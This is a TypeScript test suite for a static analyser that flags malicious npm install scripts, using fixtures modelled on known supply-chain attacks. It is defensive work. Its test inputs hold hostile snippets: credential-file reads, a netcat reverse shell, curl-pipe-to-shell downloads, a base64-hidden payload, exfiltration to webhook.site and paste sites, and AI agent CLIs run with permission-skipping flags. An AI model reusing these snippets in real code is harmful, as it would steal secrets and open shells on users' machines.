import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterEach, describe, expect, it } from 'vitest'
import {
  analyseBindingGyp, analysePackage, analyseSource, compileStaticRules, loadStaticRules, type StaticFinding, type StaticRulesFile,
} from '../../../src/audit/static/index.js'
import { loadPathRules } from '../../../src/trace/path-rules.js'
import { loadProgramRules } from '../../../src/trace/program-rules.js'

const rules = loadStaticRules()
const FIXTURES = fileURLToPath(new URL('../../fixtures/static/', import.meta.url))
const fixture = (name: string): string => join(FIXTURES, name)

/** `severity rule file [match]`, the shape the assertions below read best in. */
const lines = (findings: readonly StaticFinding[]): string[] =>
  findings.map((f) => `${f.severity} ${f.rule} ${f.evidence.file} [${f.evidence.match ?? ''}]`)

const source = (code: string, file = 'install.js'): StaticFinding[] => analyseSource(code, file, rules)
const rulesOf = (findings: readonly StaticFinding[], severity?: string): string[] =>
  [...new Set(findings.filter((f) => severity === undefined || f.severity === severity).map((f) => f.rule))].sort()

const temps: string[] = []
const tempPackage = (files: Record<string, string>): string => {
  const dir = mkdtempSync(join(tmpdir(), 'si-static-'))
  temps.push(dir)
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true })
    writeFileSync(join(dir, name), text)
  }
  return dir
}
afterEach(() => {
  for (const dir of temps.splice(0)) rmSync(dir, { recursive: true, force: true })
})

const manifest = (scripts: Record<string, string>): string => JSON.stringify({ name: 'x', version: '1.0.0', scripts }, null, 2)

describe('catalogue (policies/static/static-rules.json)', () => {
  it('loads, validates against its schema and shares the tracer catalogues', () => {
    expect(rules.file.endpoints.length).toBeGreaterThan(3)
    expect(rules.paths.entries.some((c) => c.entry.id === 'npm-rc')).toBe(true)
    expect(rules.programs.entries.some((c) => c.entry.id === 'curl')).toBe(true)
    for (const [id, staticRule] of rules.tracerRule) {
      expect(rules.programs.entries.some((c) => c.entry.id === id), `tracerPrograms names unknown entry ${id}`).toBe(true)
      expect(staticRule === 'ignore' || staticRule.startsWith('static-')).toBe(true)
    }
  })

  it('rejects a bad regular expression with the entry named', () => {
    const file: StaticRulesFile = { ...rules.file, commands: [{ id: 'broken', rule: 'static-program', programs: ['x'], args: ['('], severity: 'warning', description: 'a broken test entry' }] }
    expect(() => compileStaticRules(file, loadPathRules(), loadProgramRules())).toThrow(/commands\.broken/)
  })

  it('never names a registry host', () => {
    const text = JSON.stringify(rules.file)
    expect(text).not.toMatch(/registry\.(?:npmjs\.org|yarnpkg\.com)|npm\.pkg\.github\.com/)
  })
})

describe('hostile re-enactments (fixtures that are only read)', () => {
  it('Shai-Hulud v1 bundle: credentials, env dump, TruffleHog, GitHub repo and workflow, webhook.site', async () => {
    const found = lines(await analysePackage(fixture('shai-hulud-like'), { rules }))
    expect(found).toEqual(expect.arrayContaining([
      'error static-credential-path bundle.js [npm-rc]',
      'error static-credential-path bundle.js [aws]',
      'error static-env-dump bundle.js [serialise process.env]',
      'error static-program bundle.js [gh]',
      'error static-secret-scanner bundle.js [trufflehog]',
      'error static-secret-scanner bundle.js [secret-scanner]',
      'error static-download-exec bundle.js [download, write, run]',
      'error static-github-api bundle.js [/user/repos]',
      'error static-workflow-write bundle.js [.github/workflows]',
      'error static-exfil-endpoint bundle.js [webhook.site]',
      'warning static-github-api bundle.js [api.github.com + token]',
    ]))
  })

  it('Shai-Hulud 2.0: curl | bash Bun installer, then bun bun_environment.js (followed and analysed)', async () => {
    const found = lines(await analysePackage(fixture('shai-hulud-2-like'), { rules }))
    expect(found).toEqual(expect.arrayContaining([
      'error static-download-exec setup_bun.js [download | shell]',
      'error static-program setup_bun.js [bun]',
      'warning static-runtime-installer package.json [setup_bun.js]',
      'warning static-runtime-installer setup_bun.js [bun.sh/install]',
      'warning static-network-tool setup_bun.js [curl]',
      'error static-credential-path bun_environment.js [npm-rc]',
      'error static-credential-path bun_environment.js [gcloud]',
      'error static-metadata-endpoint bun_environment.js [169.254.169.254]',
      'error static-env-dump bun_environment.js [serialise process.env]',
    ]))
  })

  it('Nx s1ngularity: AI CLIs with permission-skipping flags, gh token, repo creation, ~/.bashrc', async () => {
    const found = lines(await analysePackage(fixture('nx-like'), { rules }))
    expect(found).toEqual(expect.arrayContaining([
      'error static-ai-agent telemetry.js [--dangerously-skip-permissions]',
      'error static-ai-agent telemetry.js [--yolo]',
      'error static-ai-agent telemetry.js [--trust-all-tools]',
      'error static-program telemetry.js [gh]',
      'error static-github-api telemetry.js [/user/repos]',
      'warning static-persistence-path telemetry.js [shell-rc]',
    ]))
  })

  it('PhantomRaven: project .npmrc, ~/.gitconfig, token env vars, raw-IP exfiltration', async () => {
    const found = await analysePackage(fixture('phantom-raven-like'), { rules })
    expect(lines(found)).toEqual(expect.arrayContaining([
      'error static-credential-path index.js [npm-rc]',
      'error static-exfil-endpoint index.js [203.0.113.7]',
      'warning static-credential-path index.js [gitconfig]',
      'warning static-env-dump index.js [enumerate process.env]',
    ]))
    expect(found.find((f) => f.evidence.match === 'npm-rc')?.message).toContain('$INIT_CWD/.npmrc')
  })

  it('javascript-obfuscator output: warnings for the markers, an error for eval of decoded code and what it hides', async () => {
    const found = lines(await analysePackage(fixture('obfuscated'), { rules }))
    expect(found).toEqual(expect.arrayContaining([
      'warning static-obfuscation lib/setup.js [_0x identifiers]',
      'warning static-obfuscation lib/setup.js [rotated string array]',
      'warning static-obfuscation lib/setup.js [escaped line]',
      'warning static-obfuscation lib/setup.js [high-entropy blob]',
      'error static-eval-decoded lib/setup.js [eval(decoded)]',
      'error static-download-exec lib/setup.js [download | shell]',
      'error static-exfil-endpoint lib/setup.js [198.51.100.23]',
    ]))
  })

  it('Phantom Gyp: no install script, binding.gyp runs index.js, which is analysed', async () => {
    const found = lines(await analysePackage(fixture('phantom-gyp'), { rules }))
    expect(found).toEqual(expect.arrayContaining([
      'warning static-gyp-command binding.gyp [expansion:node]',
      'error static-credential-path index.js [ssh]',
      'error static-persistence-path index.js [systemd-units]',
      'error static-exfil-endpoint index.js [oast.fun]',
    ]))
  })

  it('CanisterWorm: a shell script run by `sh setup.sh`, read line by line', async () => {
    const found = await analysePackage(fixture('canister-like'), { rules })
    expect(lines(found)).toEqual(expect.arrayContaining([
      'error static-program setup.sh [npm]',
      'error static-credential-path setup.sh [npm-rc]',
      'error static-credential-path setup.sh [npm-global-config]',
      'error static-network-tool setup.sh [curl]',
      'error static-exfil-endpoint setup.sh [trycloudflare.com]',
      'error static-download-exec setup.sh [download, chmod, run]',
      'error static-persistence-path setup.sh [systemd-units]',
      'error static-program setup.sh [systemctl]',
    ]))
    expect(found.find((f) => f.evidence.match === 'npm')?.evidence.line).toBe(5)
  })

  it('eslint-scope 2018: ~/.npmrc, a paste site, eval of the response', async () => {
    const found = lines(await analysePackage(fixture('eslint-scope-like'), { rules }))
    expect(found).toEqual(expect.arrayContaining([
      'error static-credential-path lib/build.js [npm-rc]',
      'error static-exfil-endpoint lib/build.js [pastebin.com]',
      'error static-download-exec lib/build.js [eval(response)]',
    ]))
  })

  it('gives every finding a position, a printable snippet and a message that says what to do', async () => {
    for (const name of ['shai-hulud-like', 'shai-hulud-2-like', 'nx-like', 'phantom-raven-like', 'obfuscated', 'phantom-gyp', 'canister-like', 'eslint-scope-like']) {
      const found = await analysePackage(fixture(name), { rules })
      expect(found.some((f) => f.severity === 'error'), name).toBe(true)
      for (const f of found) {
        expect(f.evidence.line).toBeGreaterThan(0)
        expect(f.evidence.column).toBeGreaterThan(0)
        // eslint-disable-next-line no-control-regex -- asserting there are none
        expect(f.evidence.snippet).not.toMatch(/[\u0000-\u001f]/)
        expect(f.evidence.snippet.length).toBeLessThanOrEqual(160)
        expect(f.message).toMatch(/approv|before|read|check|find out/i)
      }
    }
  })
})

describe('benign install scripts modelled on real packages', () => {
  it.each<[string, string[]]>([
    ['esbuild-like', ['note static-download-exec install.js [download, write, run]']],
    ['sharp-like', ['note static-gyp-command src/binding.gyp [expansion:node]', 'note static-gyp-command src/binding.gyp [expansion:pkg-config]']],
    ['bcrypt-like', ['note static-gyp-command binding.gyp [expansion:node]']],
    ['core-js-like', []],
    ['protobufjs-like', []],
    ['swc-like', []],
    ['node-addon-api-like', ['note static-gyp-command binding.gyp [expansion:node]']],
  ])('%s yields exactly the expected notes', async (name, expected) => {
    const found = await analysePackage(fixture(`benign/${name}`), { rules })
    expect(lines(found).sort()).toEqual([...expected].sort())
  })

  it('esbuild-like: the note says the download is hash-checked', async () => {
    const [note] = await analysePackage(fixture('benign/esbuild-like'), { rules })
    expect(note?.message).toMatch(/expected hash/)
  })

  it('sharp-like: `npm run build` and `node-gyp rebuild --directory=src` are followed to src/binding.gyp', async () => {
    const found = await analysePackage(fixture('benign/sharp-like'), { rules })
    expect(found.every((f) => f.evidence.file === 'src/binding.gyp')).toBe(true)
    expect(found[0]?.message).toContain("package's own lib/libvips")
  })
})

describe('analyseSource: credential paths', () => {
  it.each<[string, string, string]>([
    ["fs.readFileSync(path.join(os.homedir(), '.npmrc'))", 'npm-rc', 'Reads ~/.npmrc'],
    ["fs.readFileSync(process.env.HOME + '/.npmrc')", 'npm-rc', 'Reads ~/.npmrc'],
    ['fs.readFileSync(`${os.homedir()}/.kube/config`)', 'kube', 'Reads ~/.kube/config'],
    ["fs.readFileSync(path.join(os.homedir(), '.docker', 'config.json'))", 'docker', '~/.docker/config.json'],
    ["fs.readFileSync(path.resolve(os.userInfo().homedir, '.git-credentials'))", 'git-credentials', '~/.git-credentials'],
    ["fs.readFileSync(home + '/.config/gh/hosts.yml')", 'gh', '.config/gh/hosts.yml'],
    ["fs.readFileSync('/proc/' + process.ppid + '/environ')", 'proc-environ', '/proc/'],
    ["const p = path.join(os.homedir(), '.claude.json'); fs.readFileSync(p)", 'ai-tool-config', '~/.claude.json'],
    ["fs.readFileSync(path.join(__dirname, '..', '..', '.npmrc'))", 'npm-rc', '.npmrc'],
    ["fs.existsSync(path.join(os.homedir(), '.ssh', 'id_rsa'))", 'ssh', 'Checks for ~/.ssh/id_rsa'],
  ])('%s', (code, entry, text) => {
    const found = source(`const fs = require('fs'); const os = require('os'); const path = require('path'); let home; ${code}`)
    const hit = found.find((f) => f.rule === 'static-credential-path')
    expect(hit?.evidence.match).toBe(entry)
    expect(hit?.message).toContain(text)
  })

  it('works through ESM imports and TypeScript interop helpers', () => {
    expect(rulesOf(source("import { homedir } from 'node:os'\nimport { join } from 'node:path'\nimport { readFileSync } from 'node:fs'\nreadFileSync(join(homedir(), '.aws', 'credentials'))"))).toEqual(['static-credential-path'])
    expect(rulesOf(source("const os = __importStar(require('os')); const p = __importStar(require('path')); (0, fs_1.readFileSync)(p.join(os.homedir(), '.netrc'))"))).toEqual(['static-credential-path'])
  })

  it('treats .env as a warning (the catalogue says so) and the package\'s own files as nothing', () => {
    expect(lines(source("require('fs').readFileSync('.env')"))).toEqual(['warning static-credential-path install.js [dotenv]'])
    expect(source("require('fs').readFileSync(require('path').join(__dirname, '.npmrc'))")).toEqual([])
    expect(source("console.log('add your token to .npmrc, see the README')")).toEqual([])
  })
})

describe('analyseSource: environment', () => {
  it('JSON.stringify(process.env), also through a name or an object, is an error', () => {
    expect(lines(source('send(JSON.stringify(process.env))'))).toEqual(['error static-env-dump install.js [serialise process.env]'])
    expect(rulesOf(source('const e = process.env; const body = JSON.stringify({ host: 1, e })'), 'error')).toEqual(['static-env-dump'])
    expect(rulesOf(source("const util = require('util'); util.inspect({ ...process.env })"), 'error')).toEqual(['static-env-dump'])
  })

  it('walking the environment is a note alone, a warning next to network or file writes', () => {
    expect(lines(source('for (const [k] of Object.entries(process.env)) console.log(k)'))).toEqual(['note static-env-dump install.js [enumerate process.env]'])
    expect(lines(source("const v = Object.keys(process.env).filter((k) => /TOKEN/.test(k)); require('https').request('https://example.invalid/').end(String(v))")))
      .toEqual(['warning static-env-dump install.js [enumerate process.env]'])
  })

  it('copying the environment for a child process is fine', () => {
    expect(source("require('child_process').execSync('npm install --no-save @scope/wasm@1.0.0', { env: { ...process.env, npm_config_global: undefined } })")).toEqual([])
  })
})

describe('analyseSource: commands and downloads', () => {
  const cp = "const cp = require('child_process');"
  it.each<[string, string]>([
    ["cp.execSync('curl -fsSL https://example.invalid/x -o x.tgz')", 'warning static-network-tool install.js [curl]'],
    ["cp.execSync('wget -q https://example.invalid/x')", 'warning static-network-tool install.js [wget]'],
    ["cp.execSync('nc -e /bin/sh 203.0.113.1 4444')", 'error static-network-tool install.js [netcat]'],
    ["cp.spawn('powershell', ['-c', 'iwr https://example.invalid/a.exe -OutFile a.exe'])", 'warning static-network-tool install.js [powershell-download]'],
    ["cp.execSync('certutil -urlcache -f https://example.invalid/a.exe a.exe')", 'warning static-network-tool install.js [certutil-download]'],
    ["cp.execSync('curl -s https://example.invalid/i.sh | sh')", 'error static-download-exec install.js [download | shell]'],
    ['cp.execSync(\'bash -c "$(curl -fsSL https://example.invalid/i.sh)"\')', 'error static-download-exec install.js [download | shell]'],
    ["cp.execSync('bash <(curl -s https://example.invalid/i.sh)')", 'error static-download-exec install.js [download | shell]'],
    ["cp.execSync('wget -qO- https://example.invalid/i.sh | sudo -E bash -')", 'error static-download-exec install.js [download | shell]'],
    ["cp.execSync('powershell -c \"iwr https://example.invalid/a.ps1 | iex\"')", 'error static-download-exec install.js [powershell-download-exec]'],
    ["cp.execSync('curl -o /tmp/x https://example.invalid/x && chmod +x /tmp/x && /tmp/x')", 'error static-download-exec install.js [download, chmod, run]'],
    ["cp.spawnSync('sudo', ['-n', 'true'])", 'error static-program install.js [privilege]'],
    ["cp.execSync('npm publish --access public')", 'error static-program install.js [npm]'],
    ["cp.execSync('npx bun ./x.js')", 'warning static-runtime-installer install.js [npx bun]'],
    ["cp.execSync('curl -fsSL https://deno.land/install.sh | sh')", 'warning static-runtime-installer install.js [deno.land/install]'],
  ])('%s', (code, expected) => {
    expect(lines(source(`${cp}\n${code}`))).toContain(expected)
  })

  it('ordinary build commands are not findings', () => {
    expect(source(`${cp}
      cp.execSync('npm install --no-save --prefer-offline @scope/pkg-linux-x64@1.0.0')
      cp.spawnSync('pkg-config --modversion vips-cpp', { shell: true })
      cp.execFileSync(process.execPath, [require('path').join(__dirname, 'bin', 'tool'), '--version'])
      cp.spawn('node-gyp', ['rebuild'], { stdio: 'inherit', shell: true })
      const m = /x/.exec(input)`)).toEqual([])
    expect(rulesOf(source(`${cp} cp.execSync('npx bunyan --help')`))).toEqual(['static-program'])
  })

  it('finds child_process behind a bundler (member-name fallback) and through a shell option spread', () => {
    expect(rulesOf(source("n(42).execSync('curl -s https://example.invalid/x | sh')"))).toContain('static-download-exec')
    expect(rulesOf(source("const { spawnSync } = require('child_process'); const o = { shell: true }; spawnSync('curl https://example.invalid | sh', { ...o })"))).toContain('static-download-exec')
  })

  it('analyses `node -e` code passed to a child process', () => {
    const found = source("require('child_process').execSync(`node -e \"require('fs').readFileSync(require('os').homedir() + '/.npmrc')\"`)")
    expect(lines(found)).toEqual(['error static-credential-path install.js [npm-rc]'])
  })

  it('download + write + chmod + run: an error without a hash check, a note with one', () => {
    const steps = `const https = require('https'); const fs = require('fs'); const os = require('os'); const path = require('path'); const { spawn } = require('child_process')
      const bin = path.join(os.tmpdir(), 'helper')
      https.get('https://example.invalid/helper', (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => {
        const data = Buffer.concat(chunks)
        CHECK
        fs.writeFileSync(bin, data); fs.chmodSync(bin, 0o755); spawn(bin, ['--daemon'], { detached: true }) }) })`
    expect(lines(source(steps.replace('CHECK', '')))).toContain('error static-download-exec install.js [download, write, run]')
    const checked = "const digest = require('crypto').createHash('sha256').update(data).digest('hex'); if (digest !== EXPECTED) throw new Error('bad hash')"
    expect(lines(source(steps.replace('CHECK', checked)))).toContain('note static-download-exec install.js [download, write, run]')
  })

  it('eval of a network response, also through fetch().then() and await', () => {
    expect(rulesOf(source("fetch('https://example.invalid/x').then((r) => r.text()).then((t) => eval(t))"))).toContain('static-download-exec')
    expect(rulesOf(source("async function go() { const r = await fetch('https://example.invalid/x'); const t = await r.text(); new Function(t)() }"))).toContain('static-download-exec')
    expect(source("fetch('https://example.invalid/x'); function later(x) { return eval(x) }")).toEqual([])
  })
})

describe('analyseSource: eval of decoded data', () => {
  it.each([
    "eval(Buffer.from(payload, 'base64').toString())",
    'new Function(atob(payload))()',
    "require('vm').runInThisContext(String.fromCharCode(...codes))",
    'eval(decodeURIComponent(payload))',
    "const decode = (s) => Buffer.from(s, 'hex').toString(); eval(decode(payload))",
    "function d(s) { return s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ 42)).join('') } eval(d(payload))",
    "module._compile(require('zlib').inflateSync(Buffer.from(payload, 'base64')).toString(), 'x.js')",
  ])('%s', (code) => {
    expect(lines(source(code))).toContain('error static-eval-decoded install.js [eval(decoded)]')
  })

  it('shows and analyses what a constant payload decodes to', () => {
    const hidden = Buffer.from("require('child_process').execSync('curl -s https://webhook.site/x | bash')").toString('base64')
    const found = source(`eval(Buffer.from('${hidden}', 'base64').toString('utf8'))`)
    expect(found.find((f) => f.rule === 'static-eval-decoded')?.message).toContain('webhook.site')
    expect(rulesOf(found, 'error')).toEqual(['static-download-exec', 'static-eval-decoded', 'static-exfil-endpoint'])
  })

  it('constant or undecoded eval is not a finding', () => {
    expect(source("eval('1 + 1'); new Function('return this')(); setTimeout(() => {}, 10)")).toEqual([])
  })
})

describe('analyseSource: endpoints, GitHub, runtimes, AI agents', () => {
  it.each<[string, string]>([
    ["post('https://webhook.site/00000000-0000-4000-8000-000000000000')", 'webhook.site'],
    ["post('https://discord.com/api/webhooks/1/abc')", 'discord.com/api/webhooks'],
    ["get('https://pastebin.com/raw/abc')", 'pastebin.com'],
    ["post('https://abcd-1-2-3-4.ngrok-free.app/x')", 'ngrok-free.app'],
    ["post('https://quiet-river.trycloudflare.com/x')", 'trycloudflare.com'],
    ["dns('abc.oast.pro')", 'oast.pro'],
    ["post('https://x.burpcollaborator.net')", 'burpcollaborator.net'],
    ["post('http://203.0.113.9:8080/c')", '203.0.113.9'],
    ["post('https://web' + 'hook.site/x')", 'webhook.site'],
    ["post(Buffer.from('aHR0cHM6Ly93ZWJob29rLnNpdGUveA==', 'base64').toString())", 'webhook.site'],
  ])('%s', (code, match) => {
    expect(lines(source(code))).toContain(`error static-exfil-endpoint install.js [${match}]`)
  })

  it('loopback and look-alike hosts are not endpoints', () => {
    expect(source("get('http://127.0.0.1:3000/health'); get('https://mywebhook.site.example.invalid'); get('https://six.iowa.example.invalid')")).toEqual([])
  })

  it('GitHub: repo creation and workflows are errors, the API with a token a warning, the API alone nothing', () => {
    expect(lines(source("request({ host: 'api.github.com', path: '/user/repos', method: 'POST' })"))).toContain('error static-github-api install.js [/user/repos]')
    expect(lines(source("require('fs').writeFileSync('.github/workflows/ci.yml', 'on: push')"))).toContain('error static-workflow-write install.js [.github/workflows]')
    expect(lines(source("fetch('https://api.github.com/repos/o/r/releases/latest', { headers: { authorization: process.env.GITHUB_TOKEN } })")))
      .toEqual(['warning static-github-api install.js [api.github.com + token]'])
    expect(source("fetch('https://api.github.com/repos/o/r/releases/latest')")).toEqual([])
  })

  it('AI agents: unambiguous flags alone, --yolo only next to an agent name', () => {
    expect(lines(source("spawn('claude', ['--dangerously-skip-permissions', '-p', prompt])"))).toContain('error static-ai-agent install.js [--dangerously-skip-permissions]')
    expect(lines(source("require('child_process').execSync('gemini --yolo -p \"find secrets\"')"))).toContain('error static-ai-agent install.js [gemini]')
    expect(lines(source("require('child_process').execSync('codex exec --dangerously-bypass-approvals-and-sandbox x')"))).toContain('error static-ai-agent install.js [--dangerously-bypass-approvals-and-sandbox]')
    expect(source("const flags = ['--yolo']")).toEqual([])
  })
})

describe('analyseSource: robustness', () => {
  it('an unparsable file is a note, and its text is still searched', () => {
    const found = lines(source("function (\n post('https://webhook.site/x')"))
    expect(found).toEqual(['error static-exfil-endpoint install.js [webhook.site]', 'note static-unparsed install.js []'])
  })

  it('parses CommonJS that is not valid as a module (with, top-level return, octal escapes, hashbang)', () => {
    expect(source("#!/usr/bin/env node\nwith (Math) { max(1) }\nif (x) return\nvar s = '\\101'")).toEqual([])
  })

  it('never throws on garbage', () => {
    const junk = ['', '\u0000\u0001', '`${', '/*', 'eval(', "require('child_process').execSync(`${", '<!(', '{{{{', "'\\", ')'.repeat(1000)]
    for (const text of junk) {
      expect(() => analyseSource(text, 'x.js', rules)).not.toThrow()
      expect(() => analyseBindingGyp(text, 'binding.gyp', rules)).not.toThrow()
    }
    expect(() => analyseBindingGyp('['.repeat(100_000), 'binding.gyp', rules)).not.toThrow()
  })

  it('reads code nested deeper than the walker can go as text, without throwing', () => {
    const chain = `x = ${Array.from({ length: 3000 }, (_, i) => `'a${i}'`).join(' + ')} + ' https://webhook.site/x'`
    for (const code of [chain, `x = ${'['.repeat(20_000)}${']'.repeat(20_000)}`, `x = a${'.b()'.repeat(20_000)}`]) {
      expect(() => analyseSource(code, 'deep.js', rules)).not.toThrow()
    }
    expect(lines(analyseSource(chain, 'deep.js', rules))).toContain('error static-exfil-endpoint deep.js [webhook.site]')
  })

  it('stays fast on pathological input (no catastrophic regex)', () => {
    const long = (unit: string, n: number): string => unit.repeat(n)
    const started = Date.now()
    source(`const a = '${long('-c', 100_000)}'; const b = '${long('/', 200_000)}.npmrc'; const c = '${long('a', 300_000)}'`)
    source(`require('child_process').execSync('${long('-cccccccc ', 20_000)}| sh')`)
    source(`x = '${long('\\x41-', 50_000)}'`)
    analyseBindingGyp(`{ 'a': '<!(${long('(', 50_000)}' }`, 'binding.gyp', rules)
    analyseBindingGyp(`{ 'a': '${long('<!(', 50_000)}', 'b': '${long('<!(x) <(y)', 20_000)}' }`, 'binding.gyp', rules)
    expect(Date.now() - started).toBeLessThan(10_000)
  })
})

describe('analyseBindingGyp', () => {
  const gyp = (expansion: string): string => `# comment\n{\n  'targets': [{\n    'target_name': 'x',\n    'include_dirs': ["${expansion}"],\n  }],\n}\n`

  it('notes the node-addon-api lookup', () => {
    expect(lines(analyseBindingGyp(gyp(`<!(node -p \\"require('node-addon-api').include\\")`), 'binding.gyp', rules)))
      .toEqual(['note static-gyp-command binding.gyp [expansion:node]'])
  })

  it.each<[string, string[]]>([
    ['<!(curl -s https://example.invalid/flags)', ['error static-gyp-command binding.gyp [expansion:curl]', 'warning static-network-tool binding.gyp [curl]']],
    ['<!@(sh -c \'echo -I/usr/include > /tmp/flags\')', ['warning static-gyp-command binding.gyp [expansion:sh]']],
    ['<!(node index.js --configure)', ['warning static-gyp-command binding.gyp [expansion:node]']],
    ['<!(node -e \\"require(\'child_process\').execSync(\'id\')\\")', ['warning static-gyp-command binding.gyp [expansion:node]']],
    ['<!(pkg-config --cflags glib-2.0)', ['note static-gyp-command binding.gyp [expansion:pkg-config]']],
    ["<!(['python3', 'tools/flags.py'])", ['note static-gyp-command binding.gyp [expansion:python3]']],
    [`<!(python3 -c \\"import urllib.request; urllib.request.urlopen('https://example.invalid')\\")`, ['error static-program binding.gyp [python]', 'error static-gyp-command binding.gyp [expansion:python3]']],
  ])('%s', (expansion, expected) => {
    expect(lines(analyseBindingGyp(gyp(expansion), 'binding.gyp', rules)).sort()).toEqual([...expected].sort())
  })

  it('reviews actions: a download is an error, a code generator a note', () => {
    const text = `{ 'targets': [{ 'target_name': 'x', 'actions': [
      { 'action_name': 'gen', 'inputs': ['gen.py'], 'outputs': ['out.h'], 'action': ['python3', 'gen.py', '<@(_outputs)'] },
      { 'action_name': 'fetch', 'inputs': [], 'outputs': ['lib.a'], 'action': ['curl', '-o', 'lib.a', 'https://example.invalid/lib.a'] },
    ] }] }`
    expect(lines(analyseBindingGyp(text, 'binding.gyp', rules)).sort()).toEqual([
      'error static-gyp-action binding.gyp [action:curl]',
      'note static-gyp-action binding.gyp [action:python3]',
      'warning static-network-tool binding.gyp [curl]',
    ])
  })

  it('an unreadable binding.gyp is a note, and its expansions are still reviewed', () => {
    const found = lines(analyseBindingGyp("{ 'variables': { 'x': '<!(curl -s https://example.invalid)' ", 'binding.gyp', rules))
    expect(found).toContain('note static-unparsed binding.gyp []')
    expect(found).toContain('error static-gyp-command binding.gyp [expansion:curl]')
  })

  it('searches its strings for endpoints', () => {
    expect(lines(analyseBindingGyp("{ 'variables': { 'u': 'https://webhook.site/x' } }", 'binding.gyp', rules))).toEqual(['error static-exfil-endpoint binding.gyp [webhook.site]'])
  })
})

describe('analysePackage: what it follows and its limits', () => {
  it('follows `node -e "require(...)"`, `npm run` and relative requires', async () => {
    const dir = tempPackage({
      'package.json': manifest({ postinstall: "node -e \"try{require('./postinstall')}catch(e){}\"", install: 'npm run setup', setup: 'node scripts/setup.mjs' }),
      'postinstall.js': "require('./lib/steal')",
      'lib/steal.js': "require('fs').readFileSync(require('os').homedir() + '/.npmrc')",
      'scripts/setup.mjs': "import './helper.mjs'",
      'scripts/helper.mjs': "fetch('https://webhook.site/x')",
    })
    expect(lines(await analysePackage(dir, { rules })).sort()).toEqual([
      'error static-credential-path lib/steal.js [npm-rc]',
      'error static-exfil-endpoint scripts/helper.mjs [webhook.site]',
    ])
  })

  it('adds npm\'s implicit node-gyp rebuild, and reviews binding.gyp even when install scripts exist', async () => {
    const gypText = "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(curl -s https://example.invalid)'] }] }"
    for (const scripts of [{}, { postinstall: 'node -v' }]) {
      const dir = tempPackage({ 'package.json': manifest(scripts), 'binding.gyp': gypText })
      expect(lines(await analysePackage(dir, { rules }))).toContain('error static-gyp-command binding.gyp [expansion:curl]')
    }
  })

  it('follows builders to the binding.gyp they build (prebuild-install || node-gyp rebuild --directory=...)', async () => {
    const dir = tempPackage({
      'package.json': manifest({ install: 'prebuild-install || node-gyp rebuild --directory=native' }),
      'native/binding.gyp': "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(wget -qO- https://example.invalid/src | sh)'] }] }",
    })
    expect(lines(await analysePackage(dir, { rules }))).toEqual(expect.arrayContaining([
      'error static-gyp-command native/binding.gyp [expansion:wget]',
      'error static-download-exec native/binding.gyp [download | shell]',
    ]))
  })

  it('notes a script file that is missing, a file over the size limit and the file limit', async () => {
    const missing = tempPackage({ 'package.json': manifest({ postinstall: 'node install.js' }) })
    expect(lines(await analysePackage(missing, { rules }))).toEqual(['note static-skipped package.json [install.js]'])

    const large = tempPackage({ 'package.json': manifest({ postinstall: 'node big.js' }), 'big.js': `// ${'x'.repeat(5000)}\nfetch('https://webhook.site/x')` })
    expect(lines(await analysePackage(large, { rules, maxFileBytes: 1000 }))).toEqual(['note static-skipped big.js [too large]'])

    const files: Record<string, string> = { 'package.json': manifest({ postinstall: 'node f0.js' }) }
    for (let i = 0; i < 6; i++) files[`f${i}.js`] = `require('./f${i + 1}')`
    files['f6.js'] = "fetch('https://webhook.site/x')"
    const chain = tempPackage(files)
    expect(lines(await analysePackage(chain, { rules, maxFiles: 3 }))).toEqual(['note static-skipped f3.js [file limit]'])
    expect(lines(await analysePackage(chain, { rules, maxDepth: 2 }))).toEqual([])
    expect(lines(await analysePackage(chain, { rules, maxDepth: 10 }))).toEqual(['error static-exfil-endpoint f6.js [webhook.site]'])
  })

  it('does not follow a symbolic link out of the package', async () => {
    const outside = tempPackage({ 'evil.js': "fetch('https://webhook.site/x')" })
    const dir = tempPackage({ 'package.json': manifest({ postinstall: 'node link.js' }) })
    symlinkSync(join(outside, 'evil.js'), join(dir, 'link.js'))
    expect(lines(await analysePackage(dir, { rules }))).toEqual(['warning static-skipped package.json [link.js]'])
  })

  it('a broken or absent package.json is a note, never an exception', async () => {
    expect(lines(await analysePackage(tempPackage({ 'package.json': '{ nope' }), { rules }))).toEqual(['note static-unparsed package.json []'])
    expect(lines(await analysePackage(tempPackage({ 'index.js': '' }), { rules }))).toEqual(['note static-unparsed package.json []'])
  })

  it('reviews the script line itself, with its position in package.json', async () => {
    const dir = tempPackage({ 'package.json': manifest({ preinstall: 'curl -fsSL https://bun.sh/install | bash && bun x.js' }) })
    const found = await analysePackage(dir, { rules })
    expect(lines(found)).toEqual(expect.arrayContaining([
      'error static-download-exec package.json [download | shell]',
      'warning static-runtime-installer package.json [bun.sh/install]',
    ]))
    expect(found[0]?.evidence).toMatchObject({ file: 'package.json', line: 5, snippet: '"preinstall": "curl -fsSL https://bun.sh/install | bash && bun x.js"' })
  })
})
